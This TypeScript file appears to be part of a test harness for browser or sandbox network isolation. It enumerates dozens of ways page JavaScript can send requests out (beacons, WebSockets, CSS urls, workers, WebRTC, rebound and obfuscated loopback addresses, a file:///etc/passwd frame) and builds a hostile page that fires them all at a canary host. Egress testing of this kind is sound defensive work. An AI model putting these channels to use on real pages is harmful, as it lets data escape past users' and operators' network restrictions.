/**
 * Every way in which a page can make its browser send something somewhere, as JavaScript of the page. `to(way)` gives an
 * address of a canary for the way, `via(way)` an address of the page's own site that redirects there.
 */
export const WAYS: Readonly<Record<string, string>> = {
  fetch: `fetch(to('fetch'))`,
  'fetch, no-cors': `fetch(to('no-cors'), { mode: 'no-cors' })`,
  'fetch, POST': `fetch(to('post'), { method: 'POST', mode: 'no-cors', body: 'x' })`,
  'fetch, keepalive': `fetch(to('keepalive'), { keepalive: true, mode: 'no-cors' })`,
  'fetch, PUT with a preflight': `fetch(to('preflight'), { method: 'PUT', headers: { 'x-a': '1' } })`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', to('xhr')); x.send()`,
  'XMLHttpRequest, synchronous': `const x = new XMLHttpRequest(); x.open('GET', to('xhr-sync'), false); x.send()`,
  EventSource: `new EventSource(to('events'))`,
  WebSocket: `new WebSocket(to('socket').replace('http', 'ws'))`,
  'WebSocket, encrypted': `new WebSocket(to('socket-tls').replace('http', 'wss'))`,
  sendBeacon: `navigator.sendBeacon(to('beacon'), 'x')`,
  img: `new Image().src = to('img')`,
  'img, srcset': `add('<img srcset="' + to('srcset') + ' 1x">')`,
  'picture, source': `add('<picture><source srcset="' + to('source') + '"><img></picture>')`,
  'input, image': `add('<input type="image" src="' + to('input') + '">')`,
  'table, background': `add('<table background="' + to('background') + '"><td>x</table>')`,
  'svg, image': `add('<svg><image href="' + to('svg-image') + '" width="9" height="9"/></svg>')`,
  'svg, use': `add('<svg><use href="' + to('svg-use') + '#a"/></svg>')`,
  'svg, feImage': `add('<svg width="9" height="9"><filter id="f"><feImage href="' + to('fe-image') + '"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>')`,
  'style, background': `add('<div style="width:9px;height:9px;background:url(' + to('css') + ')">x</div>')`,
  'style, content': `add('<style>#c::after{content:url(' + to('content') + ')}</style><p id="c">x</p>')`,
  'style, cursor': `add('<div style="cursor:url(' + to('cursor') + '),auto">x</div>')`,
  'style, @import': `add('<style>@import url(' + to('import') + ');</style>')`,
  'style, font': `add('<style>@font-face{font-family:q;src:url(' + to('font') + ')}</style><p style="font-family:q">x</p>')`,
  FontFace: `new FontFace('z', 'url(' + to('fontface') + ')').load()`,
  'link, stylesheet': `link('stylesheet', to('stylesheet'))`,
  'link, icon': `link('icon', to('icon'))`,
  'link, manifest': `link('manifest', to('manifest'))`,
  'link, prefetch': `link('prefetch', to('prefetch'))`,
  'link, preload of a script': `link('preload', to('preload'), 'script')`,
  'link, preload of a picture': `link('preload', to('preload-img'), 'image')`,
  'link, preload of data': `link('preload', to('preload-fetch'), 'fetch')`,
  'link, modulepreload': `link('modulepreload', to('modulepreload'))`,
  'link, preconnect': `link('preconnect', to('preconnect'))`,
  'link, dns-prefetch': `link('dns-prefetch', to('dns'))`,
  'link, prerender': `link('prerender', to('prerender'))`,
  'speculation, prefetch': `speculate('prefetch', to('speculation'))`,
  'speculation, prerender': `speculate('prerender', to('speculation-prerender'))`,
  script: `script(to('script'))`,
  'script, module': `script(to('module'), 'module')`,
  import: `import(to('dynamic'))`,
  worker: `new Worker(code("fetch('" + to('worker') + "')"))`,
  'worker, importScripts': `new Worker(code("importScripts('" + to('import-scripts') + "')"))`,
  'worker, WebSocket': `new Worker(code("new WebSocket('" + to('worker-socket').replace('http', 'ws') + "')"))`,
  'worker, XMLHttpRequest': `new Worker(code("const x = new XMLHttpRequest(); x.open('GET', '" + to('worker-xhr') + "', false); x.send()"))`,
  'worker of a module': `new Worker(code("import '" + to('worker-module') + "'"), { type: 'module' })`,
  SharedWorker: `new SharedWorker(code("fetch('" + to('shared') + "')"))`,
  'service worker': `navigator.serviceWorker.register('/service.js')`,
  iframe: `frame(to('iframe'))`,
  'iframe, srcdoc': `add('<iframe srcdoc="&lt;img src=' + to('srcdoc') + '&gt;&lt;script src=' + to('srcdoc-js') + '&gt;&lt;/script&gt;"></iframe>')`,
  'iframe of a blob': `frame(URL.createObjectURL(new Blob(['<script>fetch("' + to('blob') + '")</script>'], { type: 'text/html' })))`,
  'iframe of data': `frame('data:text/html,<script>fetch("' + to('data') + '")</script>')`,
  'iframe, meta refresh': `frame('data:text/html,<meta http-equiv=refresh content="0;url=' + to('refresh') + '">')`,
  'iframe, location': `frame('about:blank').contentWindow.location = to('location')`,
  'iframe, view-source': `frame('view-source:' + to('view-source'))`,
  'iframe of a file': `frame('file:///etc/passwd')`,
  object: `add('<object data="' + to('object') + '"></object>')`,
  embed: `add('<embed src="' + to('embed') + '">')`,
  video: `add('<video src="' + to('video') + '" autoplay muted></video>')`,
  'video, poster': `add('<video poster="' + to('poster') + '"></video>')`,
  audio: `new Audio(to('audio')).play()`,
  track: `add('<video src="/film.mp4"><track default kind="captions" src="' + to('track') + '"></video>')`,
  'form, GET': `form('get', to('form'), 'inside')`,
  'form, POST': `form('post', to('form-post'), 'inside')`,
  'form, in a window': `form('get', to('form-blank'), '_blank')`,
  open: `open(to('open'))`,
  'open, noopener': `open(to('noopener'), '_blank', 'noopener')`,
  'a, ping': `const a = document.createElement('a'); a.href = '#x'; a.ping = to('ping'); document.body.append(a); a.click()`,
  'a, download': `const a = document.createElement('a'); a.href = to('download'); a.download = 'x'; document.body.append(a); a.click()`,
  'WebRTC, STUN': `peer({ urls: 'stun:' + canary })`,
  'WebRTC, TURN': `peer({ urls: 'turn:' + canary, username: 'u', credential: 'c' })`,
  'WebRTC, TURN over TCP': `peer({ urls: 'turn:' + canary + '?transport=tcp', username: 'u', credential: 'c' })`,
  WebTransport: `new WebTransport(to('transport').replace('http:', 'https:'))`,
  'redirect of fetch': `fetch(via('redirect'))`,
  'redirect of img': `new Image().src = via('redirect-img')`,
  'redirect of script': `script(via('redirect-script'))`,
  'redirect of iframe': `frame(via('redirect-iframe'))`,
  'redirect of worker': `new Worker(via('redirect-worker'))`,
  'report of a broken policy': `frame('/policy')`,
  'own name that is private': `fetch('http://private.example:' + port + '/name', { mode: 'no-cors' })`,
  'name with two addresses': `fetch('http://mixed.example:' + port + '/mixed', { mode: 'no-cors' })`,
  'name that is rebound': `for (let i = 0; i < 4; i++) setTimeout(() => fetch('http://rebound.example:' + port + '/' + i, { mode: 'no-cors' }), 200 * i)`,
  'name in IPv6': `fetch('http://six.example:' + port + '/six', { mode: 'no-cors' })`,
  localhost: `fetch('http://localhost:' + port + '/localhost', { mode: 'no-cors' })`,
  'localhost below a name': `fetch('http://a.localhost:' + port + '/below', { mode: 'no-cors' })`,
  'loopback in IPv6': `fetch('http://[::1]:' + port + '/loopback', { mode: 'no-cors' })`,
  'loopback, mapped': `fetch('http://[::ffff:127.0.0.1]:' + port + '/mapped', { mode: 'no-cors' })`,
  'loopback, hexadecimal': `fetch('http://0x7f.1:' + port + '/hex', { mode: 'no-cors' })`,
  'loopback, one number': `fetch('http://2130706433:' + port + '/number', { mode: 'no-cors' })`,
  'any address': `fetch('http://0.0.0.0:' + port + '/any', { mode: 'no-cors' })`,
  'the page itself': `setTimeout(() => { location.href = to('itself') }, 1500)`,
  'the page itself, redirected': `setTimeout(() => { location.href = via('itself') }, 1700)`,
};

/** With these the page leaves itself, where nobody keeps it. */
const LEAVES: ReadonlySet<string> = new Set(['a, download', 'the page itself', 'the page itself, redirected']);

/** The page that tries them all, or all but those with which it leaves; its title says so at the end. `canary`: `host:port`. */
export function hostilePage(canary: string, stays: boolean): string {
  const ways = Object.entries(WAYS).filter(([name]) => !stays || !LEAVES.has(name));
  const tries = ways.map(([, way]) => `() => { ${way.replaceAll('</', '<\\/')}; }`);
  return `<!doctype html><html><head><title>trying</title></head><body><div id="root"></div><iframe name="inside"></iframe><script>
const canary = ${JSON.stringify(canary)}, port = canary.split(':').pop();
const to = (way) => 'http://' + canary + '/' + way;
const via = (way) => '/to?' + encodeURIComponent(to(way));
const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
const make = (name, values) => { const made = Object.assign(document.createElement(name), values); document.body.append(made); return made; };
const link = (rel, href, as) => document.head.append(Object.assign(document.createElement('link'), { rel, href, ...(as && { as }) }));
const script = (src, type = '') => make('script', { src, type });
const frame = (src) => make('iframe', { src });
const form = (method, action, target) => { const made = make('form', { method, action, target }); made.innerHTML = '<input name="a" value="b">'; made.submit(); };
const speculate = (kind, url) => make('script', { type: 'speculationrules', textContent: JSON.stringify({ [kind]: [{ source: 'list', urls: [url] }] }) });
const code = (js) => URL.createObjectURL(new Blob([js], { type: 'text/javascript' }));
const peer = async (server) => { const made = new RTCPeerConnection({ iceServers: [server] }); made.createDataChannel('x');
  await made.setLocalDescription(await made.createOffer()); };
let tried = 0;
addEventListener('unhandledrejection', (event) => event.preventDefault());
for (const way of [${tries.join(',\n')}]) { try { way(); } catch {} tried++; }
setTimeout(() => { document.title = 'tried ' + tried; }, 3000);
</script></body></html>`;
}
